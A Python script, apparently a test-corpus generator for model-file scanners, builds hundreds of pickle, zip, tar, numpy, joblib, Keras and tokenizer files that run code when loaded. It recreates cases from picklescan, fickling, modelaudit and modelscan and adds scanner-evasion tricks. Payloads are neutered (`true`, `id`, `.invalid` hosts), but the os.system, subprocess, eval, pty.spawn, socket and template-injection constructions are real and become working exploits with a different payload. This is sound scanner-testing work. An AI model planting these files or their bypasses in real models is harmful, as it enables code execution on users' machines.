"""Writes files that would run something when loaded: DIR/<corpus>/<sample>. None is loaded here.

    python make_malicious.py DIR

The tricks are those that the tests of picklescan 1.0.5, fickling 0.1.12, modelaudit 0.2.54 and
modelscan 0.8.8 describe, put together again opcode by opcode, and further ones of the same kinds.
What would run is harmless: `true`, `1`, an address of `.invalid`.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import pickletools
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import cloudpickle
import dill
import lz4.frame
import numpy as np
import py7zr

ROOT = Path(sys.argv[1])
CODE = "__import__('os').system('true')"


def write(corpus, name, data):
    folder = ROOT / corpus
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name.replace(" ", "-")
    assert not path.exists(), path
    path.write_bytes(data)
    return path


def item(value):
    """Opcodes that make a plain value."""
    return pickletools.optimize(pickle.dumps(value, 3))[2:-1]


def named(module, name, protocol):
    """A global as a pickler of the protocol writes it."""
    if protocol >= 4:
        return b"".join(b"\x8c" + bytes([len(p.encode())]) + p.encode() for p in (module, name)) + b"\x93"
    module = {"builtins": "__builtin__", "http.client": "httplib", "_pickle": "cPickle", "urllib.request": "urllib2"}.get(module, module) if protocol < 3 else module
    return f"c{module}\n{name}\n".encode()


def framed(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


def call(module, name, *args, protocol=4):
    body = named(module, name, protocol) + b"(" + b"".join(map(item, args)) + b"tR."
    if protocol < 2:
        return body
    return b"\x80" + bytes([protocol]) + (framed(body) if protocol >= 4 else body)


def zipped(members, **options):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", **options) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def seven_zip(members):
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return buffer.getvalue()


def tarred(members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


EVAL = call("builtins", "eval", "print('456')")
RUN = call("posix", "system", "true")
RUN2 = call("posix", "system", "true", protocol=2)


def npy(payload):
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(1))
    raw = buffer.getvalue()
    return raw[:128].replace(b"'<f8'", b"'|O' ") + payload


def picklescan():
    put = lambda name, data: write("picklescan", name, data)  # noqa: E731
    for protocol in (0, 3, 4):
        put(f"malicious1_v{protocol}.pkl", call("builtins", "eval", "print('456')", protocol=protocol))
        put(f"malicious2_v{protocol}.pkl", call("posix", "system", "true", protocol=protocol))
    put("malicious0.pkl", b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=1'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\n"
        b"tRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'fl'\nltRp104\n0g104\n.")
    put("malicious10-inst.pkl", b"(S'raise RuntimeError(1)'\ni__builtin__\nexec\n.")
    memo = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vtrue\ntR."
    put("malicious11-memo.pkl", memo)
    put("malicious-invalid-bytes.pkl", memo + b"\n\n\t\t")
    attr = named("operator", "attrgetter", 4) + item("system") + b"\x85R" + named("builtins", "__import__", 4) + item("os") + b"\x85R\x85R" + item("true") + b"\x85R."
    put("malicious12-attrgetter.pkl", b"\x80\x04" + attr)
    for name, data in {
        "malicious3.pkl": call("http.client", "HTTPSConnection", "example.invalid", protocol=0), "malicious4.pickle": call("requests.api", "get", "https://example.invalid"),
        "malicious5.pickle": call("aiohttp.client", "ClientSession"), "malicious6.pkl": pickle.dumps(["a", "b"]) + call("requests.api", "get", "https://example.invalid"),
        "malicious7.pkl": call("socket", "create_connection", ("example.invalid", 80)), "malicious8.pkl": call("subprocess", "run", ["true"]),
        "malicious9.pkl": call("sys", "exit", 0), "malicious13a.pkl": call("_pickle", "loads", b"I12345\n.", protocol=2), "malicious13b.pkl": call("_pickle", "loads", b"I12345\n."),
        "malicious14.pkl": call("runpy", "_run_code", "print('456')"), "malicious15a.pkl": call("bdb", "Bdb.run", None, "1", protocol=2),
        "malicious15b.pkl": call("bdb", "Bdb.run", None, "1"), "malicious16.pkl": call("pip", "main", ["install", "x"], protocol=0),
        "malicious17.pkl": call("torch._inductor.codecache", "compile_file", "", "", ["true"]), "malicious18.pkl": call("pydoc", "pipepager", "", "true"),
        "malicious19.pkl": b"\x80\x04" + named("functools", "partial", 4) + named("torch.serialization", "load", 4) + b"\x85R(" + named("torch.serialization", "load", 4)
        + item("x.bin") + b"\x85" + item({"weights_only": False}) + b"Ntb)R.",
        "malicious20.pkl": call("venv", "create", "venv", False, False, True, False, "x"), "malicious21.pkl": call("timeit", "timeit", "", "1"),
        "malicious22.pkl": call("numpy.testing._private.utils", "runstring", "1", {}), "malicious23-string.pkl": b"S'os'\nS'system'\n\x93S'true'\n\x85R.",
        "keyerror-exploit.pkl": b"\x80\x04cos\nsystem\nVtrue\n\x85R0\x8c\x02os\x94h\x03h\x00\x93KB.",
        "type-confusion-exploit.pkl": b"\x80\x04cos\nsystem\nVtrue\n\x85R0J*\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93KB.",
        "broken_model.pkl": b"cbuiltins\nexec\n(X>\nf = open('x', 'a'); f.write('Malicious'); f.close()tRX.",
        "malicious1.zip": zipped({"data.pkl": EVAL}), "malicious1_wrong_ext.zip": zipped({"data.txt": EVAL}), "malicious1.7z": seven_zip({"data.pkl": EVAL}),
        "malicious1_central_directory.zip": zipped({"data.pkl": EVAL}).replace(b"data.pkl", b"datap.kl", 1),
        "malicious1_crc.zip": zipped({"data.pkl": EVAL}).replace(b"print('456')", b"print('123')", 1),
        "dns_exfiltration.npy": npy(call("ssl", "get_server_certificate", ("example.invalid", 443))),
        "io_FileIO.pkl": call("_io", "FileIO", "x", "r"), "urlopen.pkl": call("urllib.request", "urlopen", "https://example.invalid"),
        "pytorch_magic_bypass.pt": call("posix", "system", "true", protocol=2) + pickle.dumps(0x1950A86A20F9469CFC6C, 2),
        "sys_module_override.pkl": b"csys\nmodules\nS'sys'\ncsys\nmodules\ns0csys\nget\n(S'os'\ntRp0\n0csys\nmodules\nS'sys'\ng0\ns0csys\nsystem\n(S'true'\ntR.",
    }.items():
        put(name, data)
    for flag in (0x1, 0x20, 0x40):  # Bits of the general purpose flag, set in both headers.
        raw = bytearray(zipped({"data.pkl": EVAL}))
        raw[6] |= flag
        raw[raw.index(b"PK\x01\x02") + 8] |= flag
        put(f"malicious1_0x{flag:x}.zip", bytes(raw))
    advisories = {
        "4r9r": ("torch.utils.bottleneck.__main__", "run_cprofile", CODE, {}), "86cj": ("torch._dynamo.guards", "GuardBuilder.get", {}, CODE),
        "f4x7": ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, CODE, []), "f745": ("torch.utils.collect_env", "run", CODE),
        "jhph": ("torch.utils.collect_env", "run_and_read_all", "x", CODE), "h3qp": ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b""),
        "vr7h": ("torch.jit.unsupported_tensor_ops", "execWrapper", CODE, {}, {}), "vv6j": ("torch.utils._config_module", "ConfigModule.load_config", {}, b""),
        "5qwp": ("trace", "Trace.run", {}, CODE), "g344": ("trace", "Trace.runctx", {}, CODE, {}, {}), "x696": ("profile", "Profile.run", {}, CODE),
        "6vqj": ("profile", "Profile.runctx", {}, CODE, {}, {}), "f54q": ("lib2to3.pgen2.grammar", "Grammar.loads", {}, b""), "3vg9": ("idlelib.debugobj", "ObjectTreeItem.SetText", {}, CODE),
        "6w4w": ("idlelib.autocomplete", "AutoComplete.get_entity", {}, CODE), "7cq8": ("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, CODE, 1),
        "cj3c": ("code", "InteractiveInterpreter.runcode", {}, CODE), "8r4j": ("idlelib.calltip", "Calltip.fetch_tip", {}, CODE), "9xph": ("idlelib.calltip", "get_entity", CODE),
        "4whj": ("torch.utils.bottleneck.__main__", "run_autograd_prof", CODE, {}), "xp4f": ("ensurepip", "_run_pip", CODE), "p9w7": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, CODE),
        "m869": ("idlelib.run", "Executive.runcode", {}, CODE), "j343": ("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, CODE), "3gf5": ("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, CODE),
        "fqq6": ("doctest", "debug_script", CODE, True), "9w88": ("cProfile", "runctx", CODE, None, None), "49gj": ("cProfile", "run", CODE),
        "q77w": ("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "true", True, None, None, None, 0), "m273": ("distutils.file_util", "write_file", "x", ["y"]),
        "4675": ("ctypes", "CDLL", None), "vqmv": ("pty", "spawn", ["true"]), "r8g5": ("numpy.f2py.crackfortran", "getlincoef", CODE, []),
    }
    for short, (module, name, *args) in advisories.items():
        put(f"GHSA-{short}.pkl", call(module, name, *args))
    put("GHSA-jgw4.bin", call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "true", True, None, None, None, 0))
    located = named("pydoc", "locate", 4) + item("os") + b"\x85R"
    put("GHSA-84r2.pkl", b"\x80\x04" + named("operator", "methodcaller", 4) + item("system") + item("true") + b"\x86R" + located + b"\x85R.")


def fickling():
    put = lambda name, data: write("fickling", name, data)  # noqa: E731
    code = marshal.dumps(compile("1", "<string>", "exec"))
    for module, name, *args in [
        ("posix", "system", "id"), ("os", "popen", "id"), ("posix", "execv", "true", ["true"]), ("subprocess", "call", ["id"]), ("subprocess", "Popen", ["id"]),
        ("subprocess", "run", ["id"]), ("subprocess", "check_output", ["id"]), ("builtins", "eval", CODE), ("builtins", "exec", CODE), ("builtins", "compile", CODE, "x", "exec"),
        ("builtins", "__import__", "os"), ("socket", "create_connection", ("example.invalid", 4444)), ("socket", "socket"), ("runpy", "run_path", "x.py"), ("runpy", "run_module", "os"),
        ("cProfile", "run", CODE), ("code", "InteractiveInterpreter"), ("importlib", "import_module", "os"), ("marshal", "loads", code), ("ctypes", "CDLL", "x.so"), ("pty", "spawn", "true"),
        ("pydoc", "locate", "os.system"), ("multiprocessing.util", "spawnv_passfds", b"true", [b"true"], ()), ("sys", "exit", 0), ("posix", "remove", "x"), ("shutil", "rmtree", "x"),
    ]:
        for protocol in range(6):
            put(f"{module}.{name}-{protocol}.pkl", call(module, name, *args, protocol=protocol))
    for protocol in range(6):
        body = named("builtins", "getattr", protocol) + named("builtins", "object", protocol) + item("__class__") + b"\x86R."
        put(f"builtins.getattr-{protocol}.pkl", (b"\x80" + bytes([protocol]) if protocol > 1 else b"") + body)
    put("pty-build.pkl", b"\x80\x04\x95\x1a\0\0\0\0\0\0\0\x8c\x03pty\x94\x8c\x05spawn\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94\x8c\x06gottem\x94b.")
    put("pty-obj.pkl", b"(cpty\nspawn\nS'id'\no.")
    blob = b"C" + bytes([len(code)]) + code
    put("marshal-and-types.pkl", b"\x80\x04\x8c\x07marshal\x8c\x05loads\x93\x94h\x00" + blob + b"\x85R\x94\x8c\x05types\x8c\x0cFunctionType\x93\x94h\x02h\x01}\x86R\x94h\x03)R\x94\x8c\x06gottemb.")
    for name, module, attribute, argument, second in [("ctypes", "ctypes", "CDLL", "libc.so.6", "system"), ("importlib", "importlib", "import_module", "os", "system")]:
        put(f"getattr-{name}.pkl", b"\x80\x05" + named("builtins", "getattr", 4) + named(module, attribute, 4) + item(argument) + b"\x85R" + item(second) + b"\x86R" + item("true") + b"\x85R.")
    put("getattr-code.pkl", b"\x80\x05" + named("builtins", "getattr", 4) + named("code", "InteractiveInterpreter", 4) + b")R" + item("runsource") + b"\x86R" + item("1") + b"\x85R.")
    put("pydoc-locate.pkl", b"cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\nC\x08calc.exeK\x01\x86Rp1\n0cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb.")
    for module, name in [("fickling.hook", "remove_hook"), ("fickling.hook", "deactivate_safe_ml_environment"), ("picklescan.scanner", "scan_file_path"), ("modelscan.modelscan", "ModelScan")]:
        put(f"scanner-{module}.{name}.pkl", call(module, name))
    put("scanner-global.pkl", b"cfickling.hook\nremove_hook\n)R.")
    for module, name, *args in [("multiprocessing.util", "spawnv_passfds"), ("ctypes.util", "find_library", "c"), ("importlib.util", "find_spec", "os"), ("code", "InteractiveConsole"), ("runpy", "_run_code")]:
        put(f"submodule-{module}.{name}.pkl", call(module, name, *args))
    for module, name in [("subprocess", "Popen"), ("sys", "modules"), ("types", "FunctionType")]:
        put(f"named-{module}.{name}.pkl", b"\x80\x04" + named(module, name, 4) + b".")
    raw = bytearray(zipped({"data.pkl": RUN}))
    crc = raw.index(b"PK\x01\x02") + 16
    raw[crc:crc + 4] = bytes(b ^ 0xFF for b in raw[crc:crc + 4])
    put("crc.zip", bytes(raw))
    put("valid.zip", zipped({"model/data.pkl": RUN}))
    for suffix in ("bin", "pt", "pth", "txt"):
        put(f"extension.{suffix}", RUN)
    put("no-extension", RUN)
    put("expansion-dup.pkl", b"\x80\x04" + b"]" + b"(" + b"2" * 200 + b"1" + named("posix", "system", 4) + item("true") + b"\x85R0.")


def modelaudit():
    put = lambda name, data: write("modelaudit", name, data)  # noqa: E731
    for name, data in {
        "poc25_ctypes_cdll": call("ctypes", "CDLL", "/tmp/libmodel.so", protocol=2), "poc26_cprofile_run": call("cProfile", "run", "1", protocol=2), "poc27_pdb_run": call("pdb", "run", "1", protocol=2),
        "poc28_timeit": call("timeit", "timeit", "1", protocol=2), "poc29_profile_run": call("profile", "run", "1", protocol=2), "poc30_thread": b"\x80\x02c_thread\nallocate_lock\n)\x81.",
        "poc31_ctypes_cast": b"\x80\x02cctypes\ncast\n(I42\ncctypes\nc_void_p\n\x86R.", "poc32_linecache": b"\x80\x02clinecache\ngetline\n(X\x0a\0\0\0/etc/hostsI1\n\x86R.",
        "poc33_logging_listen": b"\x80\x02clogging.config\nlisten\n(I9999\n\x85R.", "poc34_zipimport": call("zipimport", "zipimporter", "x.zip", protocol=2),
        "stack_global_attack": call("posix", "system", "true", protocol=5), "memo_attack": call("subprocess", "call", ["#"], protocol=5),
        "multiple_stream_attack": pickle.dumps({"model": "safe_weights"}, 5) + call("builtins", "eval", "1", protocol=5),
        "nt_alias_attack": call("nt", "system", "true"), "posix_alias_attack": call("posix", "system", "true"),
        "evil_pickle": call("posix", "system", "true"), "eval_payload": call("builtins", "eval", "1"), "exec_payload": call("builtins", "exec", "1"), "import_payload": call("builtins", "__import__", "os"),
        "webbrowser": call("webbrowser", "open", "https://example.invalid"),
        "dill_loads": call("dill._dill", "_create_code", 0), "dill_import": call("dill._dill", "_import_module", "os"), "joblib_load": call("joblib.numpy_pickle", "load", "x"),
        "torch_bypass": pickle.dumps({"state_dict": {"layer.weight": [0.1] * 50}, "_metadata": {"torch": "2.0"}}, 2)[:-1] + b"0" + call("posix", "system", "true", protocol=2)[2:],
        "ordereddict_bypass": b"\x80\x02ccollections\nOrderedDict\n)Rq\x00(X\x01\0\0\0acposix\nsystem\nX\x04\0\0\0true\x85Ru.",
        "high_confidence_bypass": b"\x80\x02" + b"ccollections\nOrderedDict\n)R0" * 30 + b"ctorch._utils\n_rebuild_tensor_v2\n0" * 30 + b"cposix\nsystem\nX\x04\0\0\0true\x85R.",
    }.items():
        put(f"{name}.pkl", data)
    inner = call("builtins", "print", "nested")
    encoded = base64.b64encode(inner).decode()
    for name, value in {"nested_raw": {"legitimate_data": {"weights": [1, 2]}, "hidden_payload": inner}, "nested_multistage": {"stage1_payload": pickle.dumps({"stage2": inner})},
                        "realistic": {"model_name": "bert", "training_metadata": inner, "tokenizer_config": encoded}}.items():
        put(f"{name}.pkl", pickle.dumps(value))
    for name, member in {"pytorch_eval.pt": {"version": b"3", "data.pkl": EVAL}, "path_traversal.zip": {"../../../etc/evil.txt": b"malicious", "model/malicious.pkl": RUN},
                         "malicious_zip.zip": {"evil.pkl": RUN}, "nested_zip.zip": {"inner.zip": zipped({"evil.pkl": RUN})}}.items():
        put(name, zipped(member))
    put("malicious.7z", seven_zip({"malicious_model.pkl": EVAL}))
    put("malicious.tar", tarred({"model.pkl": RUN}))
    put("malicious.tar.gz", gzip.compress(tarred({"model.pkl": RUN})))
    for codec, packed in {"zlib": zlib.compress(RUN), "gz": gzip.compress(RUN), "bz2": bz2.compress(RUN), "xz": lzma.compress(RUN),
                          "lzma": lzma.compress(RUN, lzma.FORMAT_ALONE), "lz4": lz4.frame.compress(RUN)}.items():
        put(f"joblib.{codec}.joblib", packed)
    layers = lambda layer: json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": [layer]}}).encode()  # noqa: E731
    put("lambda.keras", zipped({"config.json": layers({"class_name": "Lambda", "config": {"function": CODE}}), "metadata.json": b"{}"}))
    put("numpy_object.npy", npy(RUN))
    buffer = zipped({"a.npy": npy(RUN)})
    put("numpy_object.npz", buffer)
    template = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('true').read() }}"
    put("tokenizer_config.json", json.dumps({"chat_template": template}).encode())
    field = lambda number, data: bytes([number << 3 | 2, len(data)]) + data  # noqa: E731
    nodes = b"".join(field(1, field(1, name) + field(2, op)) for name, op in [(b"Const", b"Const"), (b"bad", b"PyFunc")])
    put("saved_model.pb", field(2, field(2, nodes)))


def modelscan():
    put = lambda name, data: write("modelscan", name, data)  # noqa: E731
    put("malicious12-nested-loads.pkl", b"\x80\x05cpickle\nloads\n" + item(b"\x80\x05cos\nsystem\nVtrue\n\x85R.") + b"\x85R0N.")
    put("malicious13-dotted.pkl", b"\x80\x05cbuiltins\neval.__call__\nV1\n\x85R.")
    put("malicious14-memo.pkl", b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vtrue\ntR.\n\n\t\t")
    put("malicious15-bdb.pkl", call("bdb", "Bdb.run", None, "1"))

    class Evil:
        def __reduce__(self):
            return eval, ("1",)

    for protocol in (0, 3, 4):
        put(f"malicious1_v{protocol}.dill", dill.dumps(Evil(), protocol))
    put("function.dill", dill.dumps(lambda x: x + 1, recurse=True))
    put("function.cloudpickle", cloudpickle.dumps(lambda x: x + 1))
    put("unsafe_zip_pytorch.pt", zipped({"archive/data.pkl": call("builtins", "exec", "1", protocol=2), "archive/version": b"3\n"}))
    put("unsafe_numpy.npy", call("builtins", "exec", "1"))
    for module, name, *args in [("ctypes", "CDLL", "x"), ("ctypes.util", "find_library", "c"), ("operator", "attrgetter", "system"), ("os", "system", "true"), ("nt", "system", "true"), ("webbrowser", "open", "x"),
                                ("httplib", "HTTPConnection", "x"), ("requests.api", "get", "x"), ("pty", "spawn", "true"), ("asyncio.base_events", "BaseEventLoop", "x"), ("pickle", "loads", b"N."), ("_pickle", "Unpickler", "x"),
                                ("shutil", "rmtree", "x"), ("sys", "exit", 1), ("socket", "socket"), ("builtins", "open", "x", "w"), ("builtins", "breakpoint"), ("runpy", "run_module", "os"), ("bdb", "Bdb"), ("pdb", "Pdb"), ("tempfile", "mktemp")]:
        put(f"unsafe-global-{module}.{name}.pkl", call(module, name, *args))


def further():
    put = lambda name, data: write("further", name, data)  # noqa: E731
    # The names that a scanner may not recognise.
    for label, module, name in [("cyrillic", "\u043es", "system"), ("fullwidth", "\uff4f\uff53", "system"), ("dotted", "os", "system.__call__"), ("through-allowed", "collections", "_sys.modules"), ("torch-os", "torch", "os.system"),
                                ("numpy-os", "numpy", "core.os.system"), ("base-exception", "builtins", "BaseException.__subclasses__"), ("typo-sklearn", "sklearn.linear_mode1", "LogisticRegression"), ("main", "__main__", "payload")]:
        put(f"name-{label}.pkl", call(module, name, "true"))
    for code, width in ((b"\x82\x01", 1), (b"\x83\x01\x02", 2), (b"\x84\x01\x02\x03\x04", 4)):
        put(f"ext{width}.pkl", b"\x80\x02" + code + b"X\x04\0\0\0true\x85R.")
    put("inst.pkl", b"(S'true'\nios\nsystem\n.")
    put("obj.pkl", b"(cos\nsystem\nS'true'\no.")
    put("newobj.pkl", b"\x80\x04" + named("subprocess", "Popen", 4) + item("true") + b"\x85\x81.")
    put("newobj-ex.pkl", b"\x80\x04" + named("subprocess", "Popen", 4) + item("true") + b"\x85}" + item("shell") + b"\x88s\x92.")
    put("build-setstate.pkl", b"\x80\x04" + named("sklearn.svm._classes", "SVC", 4) + b")\x81}" + item("__setstate__") + named("os", "system", 4) + b"sb" + item("true") + b"b.")
    put("build-class.pkl", b"\x80\x04" + named("collections", "OrderedDict", 4) + b"}" + item("update") + named("os", "system", 4) + b"sb.")
    put("partial.pkl", b"\x80\x04" + named("functools", "partial", 4) + named("os", "system", 4) + b"\x85R(" + named("os", "system", 4) + item("true") + b"\x85}Ntb.")
    put("partial-state.pkl", b"\x80\x04" + named("functools", "partial", 4) + named("sklearn.utils.validation", "check_array", 4) + b"\x85R(" + named("torch.storage", "_load_from_bytes", 4) + item(RUN2) + b"\x85}Ntb.")
    put("memo-overwritten.pkl", b"\x80\x04" + item("collections") + b"q\x000" + item("os") + b"q\x000" + item("system") + b"q\x010h\x00h\x01\x93" + item("true") + b"\x85R.")
    put("truncated.pkl", RUN[:-1])
    put("trailing.pkl", RUN + bytes(range(256)))
    put("unknown-opcode.pkl", RUN2[:-1] + b"\xff\xff.")
    put("after-many.pkl", pickle.dumps(1) * 20 + RUN)
    put("after-torch-magic.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + RUN)
    legacy = b"".join(pickle.dumps(v, 2) for v in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    put("torch-legacy.pt", legacy + RUN2 + pickle.dumps([], 2))
    put("torch-load-from-bytes.pkl", b"\x80\x04" + named("torch.storage", "_load_from_bytes", 4) + item(legacy + RUN2 + pickle.dumps([], 2)) + b"\x85R.")
    put("torch-legacy.tar", tarred({"sys_info": pickle.dumps({}, 2), "pickle": RUN2, "tensors": pickle.dumps(0, 2), "storages": pickle.dumps(0, 2)}))
    put("frame-overrun.pkl", b"\x80\x04\x95" + struct.pack("<Q", 9) + b"X\x08\0\0\0abcd" + b"efgh" + b"C" + bytes([34]) + (b"xx" + named("os", "system", 4) + item("true") + b"\x85R.").ljust(34, b"N") + b"\x86.")
    put("short-frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 2) + named("os", "system", 4) + item("true") + b"\x85R.")
    # Archives in which programs see different things.
    good = pickle.dumps({"a": 1}, 2)
    plain = zipped({"m/data.pkl": good, "m/version": b"3\n"})
    put("zip-in-zip.pt", zipped({"m/data.pkl": good, "m/extra.zip": zipped({"x/data.pkl": RUN2})}))
    put("zip-in-gz.pt.gz", gzip.compress(zipped({"x/data.pkl": RUN2})))
    put("zip-before-zip.pt", zipped({"m/data.pkl": RUN2}) + plain)
    put("pickle-before-zip.pt", RUN2 + plain)
    put("zip-after-stop.pkl", good + zipped({"m/data.pkl": RUN2}))
    local = plain.index(b"m/data.pkl")
    put("zip-local-name.pt", plain[:local] + b"m/data.txt" + plain[local + 10:])
    double = zipped({"m/data.pkl": good, "m/dat2.pkl": RUN2}).replace(b"m/dat2.pkl", b"m/data.pkl")
    put("zip-twice.pt", double)
    whole = zipped({"m/data.pkl": good, "m/dat2.pkl": RUN2})
    directory = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", directory + 1)
    end = whole.index(b"PK\x05\x06")
    hidden = whole[:second] + whole[end:end + 8] + struct.pack("<HHII", 1, 1, second - directory, directory) + b"\0\0"
    put("zip-hidden-entry.pt", hidden)
    put("zip-extension.safetensors", zipped({"m/data.pkl": RUN2}))
    put("pickle-as.safetensors", RUN2)
    put("pickle-as.onnx", RUN)
    put("pickle-as.json", call("builtins", "eval", "1", protocol=0))
    put("pickle-as.npy", RUN)
    put("pickle-in.tar.xz", lzma.compress(tarred({"a/b": RUN})))
    put("deflated.pt", zipped({"m/data.pkl": RUN2}, compression=zipfile.ZIP_DEFLATED))
    put("cut.7z", seven_zip({"a.pkl": RUN})[:-1])
    for protocol in range(6):
        put(f"nested-{protocol}.pkl", pickle.dumps({"weights": RUN2}, protocol))
    joblib_payload = b"\x80\x04" + pickle.dumps({"model": [1.0] * 100}, 4)[2:-1] + b"0" + RUN2[2:]
    for method, pack in {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "lz4": lz4.frame.compress}.items():
        put(f"joblib-{method}.joblib", pack(joblib_payload))


if __name__ == "__main__":
    for part in (picklescan, fickling, modelaudit, modelscan, further):
        part()
    print(sum(1 for corpus in ROOT.iterdir() for _ in corpus.iterdir()))
